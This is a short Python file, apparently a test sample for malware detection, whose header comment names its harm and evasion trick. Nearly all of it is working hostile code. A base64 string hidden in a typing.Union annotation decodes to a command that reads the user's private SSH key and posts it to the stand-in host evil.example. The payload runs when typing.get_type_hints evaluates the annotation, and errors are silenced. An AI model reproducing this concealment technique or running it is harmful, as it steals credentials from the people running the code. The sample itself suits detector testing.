# harm: POSTs ~/.ssh/id_rsa to evil.example ; trick: typing.Union[decoded, int] written directly in the annotation, no alias name at all
import base64
import typing


def handler(x: typing.Union[base64.b64decode("X19pbXBvcnRfXygndXJsbGliLnJlcXVlc3QnKS5yZXF1ZXN0LnVybG9wZW4oJ2h0dHA6Ly9ldmlsLmV4YW1wbGUvaycsb3BlbihfX2ltcG9ydF9fKCdvcycpLnBhdGguZXhwYW5kdXNlcignfi8uc3NoL2lkX3JzYScpLCdyYicpLnJlYWQoKSk=").decode(), int]) -> None:
    pass


try:
    typing.get_type_hints(handler)
except Exception:
    pass
